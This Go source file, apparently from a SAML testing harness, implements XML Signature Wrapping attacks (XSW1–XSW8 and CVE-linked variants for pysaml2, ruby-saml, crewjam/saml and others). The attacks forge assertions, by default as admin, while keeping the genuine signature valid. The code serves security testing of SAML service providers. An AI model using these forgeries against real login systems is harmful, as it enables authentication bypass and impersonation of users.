package fault

import (
	"fmt"

	"github.com/beevik/etree"
	"github.com/samlharness/samlharness/internal/wire"
)

// XML Signature Wrapping (catalogue §2). xsw1…xsw8 follow SAMLRaider's
// XSWHelpers.java step by step (element IDs _evil_response_ID and
// _evil_assertion_ID, un-namespaced Extensions and Object as it creates
// them); the others are the §2.2 shapes. "Forge" sets the forged copy's
// NameID (and attribute values equal to the original NameID) to the nameid
// parameter, default admin@<domain of the original NameID>. All run after
// signing and never re-sign: the genuine signature is somewhere in the
// document, still valid for what its Reference names.

// signedResponse returns the Response and its signature, or an error saying
// the fault needs a signed Response.
func signedResponse(c *Context, name string) (*etree.Element, *etree.Element, error) {
	resp, err := response(c)
	if err != nil {
		return nil, nil, err
	}
	sig := signatureOf(resp)
	if sig == nil {
		return nil, nil, fmt.Errorf("%s needs a signed Response (the Response is not signed)", name)
	}
	return resp, sig, nil
}

// signedAssertion returns the first Assertion and its signature, or an
// error saying the fault needs a signed Assertion.
func signedAssertion(c *Context, name string) (*etree.Element, *etree.Element, error) {
	a, err := firstAssertion(c)
	if err != nil {
		return nil, nil, err
	}
	sig := signatureOf(a)
	if sig == nil {
		return nil, nil, fmt.Errorf("%s needs a signed Assertion (the Assertion is not signed)", name)
	}
	return a, sig, nil
}

// unNamespaced returns an element in no namespace, as a DOM createElement
// makes it, for placing under parent.
func unNamespaced(parent *etree.Element, local string) *etree.Element {
	el := etree.NewElement(local)
	if scope(parent)[""] != "" {
		el.CreateAttr("xmlns", "")
	}
	return el
}

// identities returns the original NameID and the forged one.
func identities(c *Context, f Fault) (string, string) {
	orig := originalNameID(c)
	return orig, forgedIdentity(f, orig)
}

// xswResponse implements XSW1 (clone inside the Signature) and XSW2 (clone
// before the Signature).
func xswResponse(name string, insideSignature bool) func(c *Context, f Fault) error {
	return func(c *Context, f Fault) error {
		resp, sig, err := signedResponse(c, name)
		if err != nil {
			return err
		}
		orig, forged := identities(c, f)
		clone := withoutSignature(resp)
		forge(resp, orig, forged)
		if insideSignature {
			sig.AddChild(clone)
		} else {
			insertBefore(sig, clone)
		}
		resp.CreateAttr("ID", evilResponseID)
		return nil
	}
}

func init() {
	registerAll(
		xsw1Fault,
		xsw2Fault,
		xsw3Fault,
		xsw4Fault,
		xsw5Fault,
		xsw6Fault,
		xsw7Fault,
		xsw8Fault,
		xswSignedErrorPlusAssertionFault,
		xswPrologElementFault,
		xswAssertionInExtensionsFault,
		xswConcealedSignedAssertionFault,
		xswWrappedResponseInResponseFault,
		xswAdviceAssertionFault,
		xswUnsignedSiblingFault,
		xswDuplicateIdFault,
		xswNameidInStatusDetailFault,
	)
}

func xsw1Fault() Spec {
	return Spec{
		Name: "xsw1", Stage: StagePostSign,
		Summary: "XSW1 (xsw1-response-clone-inside-signature): clone the signed Response, drop the clone's Signature and append the clone inside the original ds:Signature; forge the outer Response and set its ID to _evil_response_ID. Needs a signed Response",
		Params:  []ParamSpec{nameIDParam},
		Apply:   xswResponse("xsw1", true),
	}
}

func xsw2Fault() Spec {
	return Spec{
		Name: "xsw2", Stage: StagePostSign,
		Summary: "XSW2 (xsw2-response-clone-before-signature): as XSW1, but the clean clone goes immediately before ds:Signature in the forged outer Response. Needs a signed Response",
		Params:  []ParamSpec{nameIDParam},
		Apply:   xswResponse("xsw2", false),
	}
}

func xsw3Fault() Spec {
	return Spec{
		Name: "xsw3", Stage: StagePostSign,
		Summary: "XSW3 (xsw3-forged-assertion-before-signed): a forged copy of the signed Assertion, Signature removed, ID _evil_assertion_ID, inserted before the original. Needs a signed Assertion",
		Params:  []ParamSpec{nameIDParam},
		Apply:   applyXsw3,
	}
}

func applyXsw3(c *Context, f Fault) error {
	a, _, err := signedAssertion(c, "xsw3")
	if err != nil {
		return err
	}
	orig, forged := identities(c, f)
	evil := forgedCopy(a, orig, forged)
	evil.CreateAttr("ID", evilAssertionID)
	insertBefore(a, evil)
	return nil
}

func xsw4Fault() Spec {
	return Spec{
		Name: "xsw4", Stage: StagePostSign,
		Summary: "XSW4 (xsw4-signed-assertion-nested-in-forged): a forged copy (no Signature, ID _evil_assertion_ID) appended to the Response, and the original signed Assertion moved inside it as its last child. Needs a signed Assertion",
		Params:  []ParamSpec{nameIDParam},
		Apply:   applyXsw4,
	}
}

func applyXsw4(c *Context, f Fault) error {
	a, _, err := signedAssertion(c, "xsw4")
	if err != nil {
		return err
	}
	resp := a.Parent()
	orig, forged := identities(c, f)
	evil := forgedCopy(a, orig, forged)
	evil.CreateAttr("ID", evilAssertionID)
	resp.AddChild(evil)
	evil.AddChild(detach(a))
	return nil
}

func xsw5Fault() Spec {
	return Spec{
		Name: "xsw5", Stage: StagePostSign,
		Summary: "XSW5 (xsw5-original-modified-clean-copy-appended): forge the original Assertion in place and set its ID to _evil_assertion_ID (its Signature stays, now dangling); append a clean copy without Signature to the Response. Needs a signed Assertion",
		Params:  []ParamSpec{nameIDParam},
		Apply:   applyXsw5,
	}
}

func applyXsw5(c *Context, f Fault) error {
	a, _, err := signedAssertion(c, "xsw5")
	if err != nil {
		return err
	}
	orig, forged := identities(c, f)
	clean := withoutSignature(a)
	forge(a, orig, forged)
	a.Parent().AddChild(clean)
	a.CreateAttr("ID", evilAssertionID)
	return nil
}

func xsw6Fault() Spec {
	return Spec{
		Name: "xsw6", Stage: StagePostSign,
		Summary: "XSW6 (xsw6-clean-copy-inside-signature): forge the original Assertion in place with ID _evil_assertion_ID; put a clean copy without Signature inside the original ds:Signature. Needs a signed Assertion",
		Params:  []ParamSpec{nameIDParam},
		Apply:   applyXsw6,
	}
}

func applyXsw6(c *Context, f Fault) error {
	a, sig, err := signedAssertion(c, "xsw6")
	if err != nil {
		return err
	}
	orig, forged := identities(c, f)
	clean := withoutSignature(a)
	forge(a, orig, forged)
	sig.AddChild(clean)
	a.CreateAttr("ID", evilAssertionID)
	return nil
}

func xsw7Fault() Spec {
	return Spec{
		Name: "xsw7", Stage: StagePostSign,
		Summary: "XSW7 (xsw7-forged-assertion-in-extensions): insert an un-namespaced <Extensions> before the Assertion holding a forged copy with the same ID and no Signature. Needs a signed Assertion",
		Params:  []ParamSpec{nameIDParam},
		Apply:   applyXsw7,
	}
}

func applyXsw7(c *Context, f Fault) error {
	a, _, err := signedAssertion(c, "xsw7")
	if err != nil {
		return err
	}
	orig, forged := identities(c, f)
	ext := unNamespaced(a.Parent(), "Extensions")
	insertBefore(a, ext)
	ext.AddChild(forgedCopy(a, orig, forged))
	return nil
}

func xsw8Fault() Spec {
	return Spec{
		Name: "xsw8", Stage: StagePostSign,
		Summary: "XSW8 (xsw8-clean-copy-in-signature-object): forge the original Assertion in place (ID and Signature kept); put a clean copy without Signature inside a new un-namespaced <Object> appended to the original ds:Signature. Needs a signed Assertion",
		Params:  []ParamSpec{nameIDParam},
		Apply:   applyXsw8,
	}
}

func applyXsw8(c *Context, f Fault) error {
	a, sig, err := signedAssertion(c, "xsw8")
	if err != nil {
		return err
	}
	orig, forged := identities(c, f)
	clean := withoutSignature(a)
	forge(a, orig, forged)
	obj := unNamespaced(sig, "Object")
	sig.AddChild(obj)
	obj.AddChild(clean)
	return nil
}

func xswSignedErrorPlusAssertionFault() Spec {
	return Spec{
		Name: "xsw-signed-error-plus-assertion", Stage: StagePostSign,
		Summary: "add a forged Assertion to a signed error Response (CVE-2022-39299, xsw-signed-error-response-plus-injected-assertion): as a second root element after it or inside the Response's ds:Signature (the enveloped transform removes it from the digest: the Response signature stays valid), or as the Response's last child (that breaks it). Combine with the pre-sign faults set-status and remove-assertion: the forged Assertion is a copy of the removed one",
		Params: []ParamSpec{nameIDParam,
			{Name: "as", Default: "second-root", Values: []string{"second-root", "in-signature", "child"},
				Summary: "where the forged Assertion goes"}},
		Apply: applyXswSignedErrorPlusAssertion,
	}
}

func applyXswSignedErrorPlusAssertion(c *Context, f Fault) error {
	resp, err := response(c)
	if err != nil {
		return err
	}
	if len(c.removedAssertions) == 0 {
		return fmt.Errorf("no removed Assertion to forge: add the pre-sign faults set-status and remove-assertion so the IdP signs an error Response")
	}
	src := c.removedAssertions[0]
	orig := nameIDOf(src).Text()
	forged := forgedCopy(src, orig, forgedIdentity(f, orig))
	switch f.Param("as", "second-root") {
	case "in-signature":
		sig := signatureOf(resp)
		if sig == nil {
			return fmt.Errorf("as=in-signature needs a signed Response")
		}
		sig.AddChild(forged)
	case "child":
		resp.AddChild(forged)
	default:
		return afterRoot(c.Doc, forged)
	}
	return nil
}

func xswPrologElementFault() Spec {
	return Spec{
		Name: "xsw-prolog-element", Stage: StagePostSign,
		Summary: "put a forged saml2:NameID (or a forged Assertion) before the root element (xsw-prolog-element-before-root, samlify vector): the document then has two top-level elements",
		Params: []ParamSpec{nameIDParam,
			{Name: "what", Default: "nameid", Values: []string{"nameid", "assertion"}, Summary: "what goes before the root"}},
		Apply: applyXswPrologElement,
	}
}

func applyXswPrologElement(c *Context, f Fault) error {
	orig, forged := identities(c, f)
	var el *etree.Element
	if f.Param("what", "nameid") == "assertion" {
		a, err := firstAssertion(c)
		if err != nil {
			return err
		}
		el = forgedCopy(a, orig, forged)
		el.CreateAttr("ID", evilAssertionID)
	} else {
		el = etree.NewElement("NameID")
		el.Space = "saml2"
		el.CreateAttr("xmlns:saml2", wire.NSAssertion)
		el.SetText(forged)
	}
	raw, err := serializeElement(el)
	if err != nil {
		return err
	}
	return beforeRoot(c.Doc, c.commentPlaceholder(func() []byte { return raw }))
}

func xswAssertionInExtensionsFault() Spec {
	return Spec{
		Name: "xsw-assertion-in-extensions", Stage: StagePostSign,
		Summary: "use a namespaced samlp:Extensions (schema position, after Issuer/Signature): signed-hidden moves the signed Assertion into it and leaves a forged copy with the same ID in its place (OneUptime #2949, lightsaml GHSA-w553-pwx6-3mg9); forged-hidden puts the forged copy in Extensions and keeps the original. Needs a signed Assertion",
		Params: []ParamSpec{nameIDParam,
			{Name: "variant", Default: "signed-hidden", Values: []string{"signed-hidden", "forged-hidden"}, Summary: "which Assertion goes into Extensions"}},
		Apply: applyXswAssertionInExtensions,
	}
}

func applyXswAssertionInExtensions(c *Context, f Fault) error {
	a, _, err := signedAssertion(c, "xsw-assertion-in-extensions")
	if err != nil {
		return err
	}
	resp := a.Parent()
	orig, forged := identities(c, f)
	evil := forgedCopy(a, orig, forged)
	ext := newElement(resp, wire.NSProtocol, "Extensions")
	insertAfterIssuer(resp, ext)
	if f.Param("variant", "signed-hidden") == "forged-hidden" {
		ext.AddChild(evil)
		return nil
	}
	insertBefore(a, evil)
	ext.AddChild(detach(a))
	return nil
}

func xswConcealedSignedAssertionFault() Spec {
	return Spec{
		Name: "xsw-concealed-signed-assertion", Stage: StagePostSign,
		Summary: "replace the signed Assertion by a forged one (ID _evil_assertion_ID) that keeps a copy of the genuine ds:Signature, whose Reference now names a different, hidden Assertion: the genuine signed Assertion concealed in the forged one's SubjectConfirmationData (schema allows any content) or Advice (xsw-concealed-signed-assertion, ruby-saml vectors). Needs a signed Assertion",
		Params: []ParamSpec{nameIDParam,
			{Name: "hide-in", Default: "subject-confirmation-data", Values: []string{"subject-confirmation-data", "advice"},
				Summary: "where the genuine Assertion is concealed"}},
		Apply: applyXswConcealedSignedAssertion,
	}
}

func applyXswConcealedSignedAssertion(c *Context, f Fault) error {
	a, _, err := signedAssertion(c, "xsw-concealed-signed-assertion")
	if err != nil {
		return err
	}
	orig, forged := identities(c, f)
	evil := detachedCopy(a)
	forge(evil, orig, forged)
	evil.CreateAttr("ID", evilAssertionID)
	insertBefore(a, evil)
	hidden := detach(a)
	if f.Param("hide-in", "") == "advice" {
		advice := child(evil, wire.NSAssertion, "Advice")
		if advice == nil {
			advice = newElement(evil, wire.NSAssertion, "Advice")
			insertAdvice(evil, advice)
		}
		advice.AddChild(hidden)
		return nil
	}
	scds := subjectConfirmationData(evil)
	if len(scds) == 0 {
		return fmt.Errorf("the Assertion has no SubjectConfirmationData to conceal it in (use hide-in=advice)")
	}
	scds[0].AddChild(hidden)
	return nil
}

func xswWrappedResponseInResponseFault() Spec {
	return Spec{
		Name: "xsw-wrapped-response-in-response", Stage: StagePostSign,
		Summary: "wrap the signed Response, unchanged, in a forged outer Response (ID _evil_response_ID, no Signature, forged Assertion); the original sits right after the outer Issuer, so its signature is the first in document order (pysaml2 CVE-2020-5390, ruby-saml response_wrapped). Needs a signed Response",
		Params:  []ParamSpec{nameIDParam},
		Apply:   applyXswWrappedResponseInResponse,
	}
}

func applyXswWrappedResponseInResponse(c *Context, f Fault) error {
	resp, _, err := signedResponse(c, "xsw-wrapped-response-in-response")
	if err != nil {
		return err
	}
	orig, forged := identities(c, f)
	outer := forgedCopy(resp, orig, forged)
	for _, a := range children(outer, wire.NSAssertion, "Assertion") {
		if sig := signatureOf(a); sig != nil {
			a.RemoveChild(sig)
		}
	}
	outer.CreateAttr("ID", evilResponseID)
	c.Doc.SetRoot(outer)
	insertAfterIssuer(outer, resp)
	return nil
}

func xswAdviceAssertionFault() Spec {
	return Spec{
		Name: "xsw-advice-assertion", Stage: StagePostSign,
		Summary: "replace the signed Assertion by a forged, unsigned one (ID _evil_assertion_ID) whose saml:Advice holds the genuine signed Assertion: XSW4's nesting made schema-valid (xsw-advice-assertion). Needs a signed Assertion; see add-advice-assertion for the signed-over-Advice variant",
		Params:  []ParamSpec{nameIDParam},
		Apply:   applyXswAdviceAssertion,
	}
}

func applyXswAdviceAssertion(c *Context, f Fault) error {
	a, _, err := signedAssertion(c, "xsw-advice-assertion")
	if err != nil {
		return err
	}
	orig, forged := identities(c, f)
	evil := forgedCopy(a, orig, forged)
	evil.CreateAttr("ID", evilAssertionID)
	insertBefore(a, evil)
	advice := newElement(evil, wire.NSAssertion, "Advice")
	insertAdvice(evil, advice)
	advice.AddChild(detach(a))
	return nil
}

func xswUnsignedSiblingFault() Spec {
	return Spec{
		Name: "xsw-unsigned-sibling", Stage: StagePostSign,
		Summary: "append after the signed Assertion a forged copy without Signature, ID = original + _attack (crewjam/saml CVE-2022-41912, SAMLRaider CVE_2022_41912; xsw-unsigned-sibling-in-signed-response-envelope). Needs a signed Response or Assertion",
		Params:  []ParamSpec{nameIDParam},
		Apply:   applyXswUnsignedSibling,
	}
}

func applyXswUnsignedSibling(c *Context, f Fault) error {
	a, err := firstAssertion(c)
	if err != nil {
		return err
	}
	if signatureOf(a) == nil && signatureOf(a.Parent()) == nil {
		return fmt.Errorf("xsw-unsigned-sibling needs a signed Response or Assertion")
	}
	orig, forged := identities(c, f)
	evil := forgedCopy(a, orig, forged)
	evil.CreateAttr("ID", idOf(a)+"_attack")
	a.Parent().AddChild(evil)
	return nil
}

func xswDuplicateIdFault() Spec {
	return Spec{
		Name: "xsw-duplicate-id", Stage: StagePostSign,
		Summary: "add a forged copy without Signature carrying the same ID as the signed Assertion, so an ID lookup can find either (xsw-duplicate-id; xmlseclibs fails closed on duplicate IDs). Needs a signed Assertion",
		Params: []ParamSpec{nameIDParam,
			{Name: "position", Default: "before", Values: []string{"before", "after"}, Summary: "before or after the original"}},
		Apply: applyXswDuplicateId,
	}
}

func applyXswDuplicateId(c *Context, f Fault) error {
	a, _, err := signedAssertion(c, "xsw-duplicate-id")
	if err != nil {
		return err
	}
	orig, forged := identities(c, f)
	evil := forgedCopy(a, orig, forged)
	if f.Param("position", "before") == "after" {
		insertAfter(a, evil)
	} else {
		insertBefore(a, evil)
	}
	return nil
}

func xswNameidInStatusDetailFault() Spec {
	return Spec{
		Name: "xsw-nameid-in-status-detail", Stage: StagePostSign,
		Summary: "put a forged saml2:NameID (or a forged Assertion, or a copy of the Assertion's ds:Signature) in samlp:Status/samlp:StatusDetail, before the real one in document order (ruby-saml CVE-2024-45409, xsw-unanchored-xpath-nameid). The Response signature breaks; pair it with sign-only assertion",
		Params: []ParamSpec{nameIDParam,
			{Name: "what", Default: "nameid", Values: []string{"nameid", "assertion", "signature"}, Summary: "what goes into StatusDetail"}},
		Apply: applyXswNameidInStatusDetail,
	}
}

func applyXswNameidInStatusDetail(c *Context, f Fault) error {
	resp, err := response(c)
	if err != nil {
		return err
	}
	status := child(resp, wire.NSProtocol, "Status")
	if status == nil {
		return fmt.Errorf("the Response has no Status")
	}
	a, err := firstAssertion(c)
	if err != nil {
		return err
	}
	orig, forged := identities(c, f)
	detail := newElement(status, wire.NSProtocol, "StatusDetail")
	status.AddChild(detail)
	switch f.Param("what", "nameid") {
	case "assertion":
		evil := forgedCopy(a, orig, forged)
		evil.CreateAttr("ID", evilAssertionID)
		detail.AddChild(evil)
	case "signature":
		sig := signatureOf(a)
		if sig == nil {
			return fmt.Errorf("the Assertion is not signed")
		}
		detail.AddChild(detachedCopy(sig))
	default:
		n := nameIDOf(a)
		if n == nil {
			return fmt.Errorf("the Assertion has no NameID")
		}
		cp := detachedCopy(n)
		setText(cp, forged)
		detail.AddChild(cp)
	}
	return nil
}

// serializeElement writes el as a standalone fragment.
func serializeElement(el *etree.Element) ([]byte, error) {
	doc := etree.NewDocument()
	doc.SetRoot(el)
	return doc.WriteToBytes()
}
